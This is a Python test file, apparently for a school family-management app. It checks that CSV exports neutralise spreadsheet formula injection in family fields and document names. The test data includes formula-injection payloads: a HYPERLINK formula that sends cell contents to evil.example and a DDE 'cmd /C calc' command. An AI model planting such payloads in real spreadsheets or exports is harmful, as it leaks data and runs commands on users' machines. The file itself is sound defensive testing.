"""Finding 7: a family's field or a document's name that looks like a formula reaches the
manager's CSV as text (a leading apostrophe), never as a live formula; amounts stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from app.extensions import db
from app.models import DocumentType, Family, FamilyDocument
from app.security.roles import MANAGER
from app.services.exports import safe_cell
from tests import factories as f

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Cliquez")', "=2+5+cmd|' /C calc'!A0",
            "+SUM(1;2)", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "  =1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Famille Dupont", "-12,50", "-12,50 €", "12", "", "a=b",
                                  "jean-pierre@example.org"])
def test_ordinary_values_are_unchanged(text):
    assert safe_cell(text) == text


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    text = response.get_data().decode("utf-8")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def _starts_live(cell: str) -> bool:
    return cell.lstrip(" ")[:1] in {"=", "+", "-", "@", "\t", "\r"}


def test_family_fields_and_document_names_reach_the_csv_as_text(app, client):
    with app.app_context():
        school = f.school()
        fam = f.family("Dupont", school)
        fam.name = FORMULAS[0]
        fam.city = "+SUM(1;2)"
        fam.phone = "@SUM(A1:A9)"
        doc_type = DocumentType(code="certificat", label="=1+1")
        db.session.add(doc_type)
        db.session.add(FamilyDocument(family=fam, document_type=doc_type,
                                      original_filename=FORMULAS[1], stored_name="x" * 32,
                                      content_type="application/pdf", size=1,
                                      uploaded_at=dt.datetime(2026, 11, 30, 9)))
        db.session.commit()
        f.user("gestionnaire1", MANAGER)
    f.login(client, "gestionnaire1")

    families = _rows(client.get("/gestion/familles/csv"))
    documents = _rows(client.get("/gestion/documents-a-verifier/csv"))

    cells = [c for row in families[1:] + documents[1:] for c in row]
    assert [c for c in cells if _starts_live(c)] == []
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells
    assert "'+SUM(1;2)" in cells and "'@SUM(A1:A9)" in cells and "'=1+1" in cells
    with app.app_context():  # nothing rewritten in the database
        assert db.session.query(Family).one().name == FORMULAS[0]
